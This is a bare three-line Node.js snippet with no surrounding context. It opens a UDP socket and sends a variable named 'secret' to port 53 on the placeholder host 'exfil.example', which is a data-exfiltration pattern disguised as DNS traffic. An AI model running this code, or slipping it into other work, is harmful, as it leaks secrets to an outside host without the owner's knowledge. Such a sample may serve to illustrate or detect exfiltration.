import * as dgram from 'dgram';
const s = dgram.createSocket('udp4');
s.send(Buffer.from(secret), 53, 'exfil.example');
